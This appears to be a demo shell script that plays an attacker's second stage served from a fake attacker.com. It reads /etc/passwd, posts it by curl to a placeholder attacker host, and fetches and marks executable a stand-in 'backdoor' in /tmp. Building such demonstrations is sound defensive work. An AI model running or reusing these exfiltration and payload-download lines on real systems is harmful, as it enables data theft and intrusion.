# shellcheck shell=sh
# The attacker's second stage, as served by the demo's fake attacker.com.
# It is harmless: it reads /etc/passwd and sends it to the local listener,
# fetches a "backdoor" that does nothing into the pod's private /tmp, and
# marks it executable. @ATTACKER@ is replaced by the listener's URL.
cat /etc/passwd
curl @ATTACKER@/exfil -d @/etc/passwd
wget -O /tmp/.x @ATTACKER@/backdoor
chmod +x /tmp/.x
